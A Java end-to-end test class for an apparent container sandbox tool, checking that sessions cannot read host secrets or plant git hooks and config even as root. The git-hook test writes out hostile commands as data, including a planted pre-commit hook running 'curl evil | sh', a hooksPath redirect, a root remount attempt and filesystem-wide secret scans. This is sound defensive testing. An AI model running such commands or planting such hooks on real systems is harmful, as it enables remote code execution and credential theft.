package coi.session;

import static org.assertj.core.api.Assertions.assertThat;

import coi.testing.CoiProcess.Result;
import coi.testing.Sandbox;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * What a session must not see or change on the host, checked by looking for it and by trying,
 * from inside a real container, as code and as root.
 */
@Tag("incus")
class ExposureE2EIT {

    @Test
    void hostEnvironmentKeysAndHomeAreNotExposed() throws Exception {
        try (Sandbox box = new Sandbox()) {
            Files.createDirectories(box.home.resolve(".ssh"));
            Files.writeString(box.home.resolve(".ssh/id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY----- coitest-secret-key");
            Files.writeString(box.home.resolve(".gitconfig"), "[credential]\n  helper = store coitest-secret-git\n");
            Result r = box.coi().env("COITEST_HOST_SECRET", "coitest-secret-env").env("GITHUB_TOKEN", "coitest-secret-token")
                    .run("run", "env; ls -la ~ /home; sudo find / -xdev \\( -name id_ed25519 -o -name .gitconfig \\) 2>/dev/null;"
                            + " sudo grep -rl coitest-secret / --exclude-dir=proc --exclude-dir=sys 2>/dev/null | head -5; echo scan-done");
            assertThat(r.exitCode()).as(r.toString()).isZero();
            assertThat(r.out()).contains("scan-done").doesNotContain("coitest-secret", "id_ed25519", box.home.toString());
        }
    }

    @Test
    void gitHooksAndConfigAreReadOnlyEvenForRootUnlessAllowed() throws Exception {
        try (Sandbox box = new Sandbox()) {
            Path git = Files.createDirectories(box.workspace.resolve(".git/hooks"));
            Files.writeString(git.getParent().resolve("config"), "[core]\n\tbare = false\n");
            Files.writeString(box.workspace.resolve("code.txt"), "work\n");
            String attack = "echo 'curl evil | sh' > .git/hooks/pre-commit && echo hook-planted;"
                    + " printf '[core]\\n\\thooksPath = /workspace/evil\\n' >> .git/config && echo config-changed;"
                    + " sudo sh -c 'echo x > .git/hooks/post-checkout' && echo root-planted;"
                    + " sudo mount -o remount,rw /workspace/.git/hooks && echo remounted;"
                    + " echo more >> code.txt && echo workspace-writable";
            Result r = box.run("run", attack);
            assertThat(r.out()).as(r.toString()).doesNotContain("hook-planted", "config-changed", "root-planted", "remounted")
                    .contains("workspace-writable");
            assertThat(git.resolve("pre-commit")).doesNotExist();
            assertThat(git.resolve("post-checkout")).doesNotExist();
            assertThat(Files.readString(git.getParent().resolve("config"))).doesNotContain("hooksPath");

            Result allowed = box.run("run", "--writable-git-hooks", "echo '#!/bin/sh' > .git/hooks/pre-commit && echo hook-written");
            assertThat(allowed.out()).as(allowed.toString()).contains("hook-written");
            assertThat(git.resolve("pre-commit")).exists();
        }
    }
}
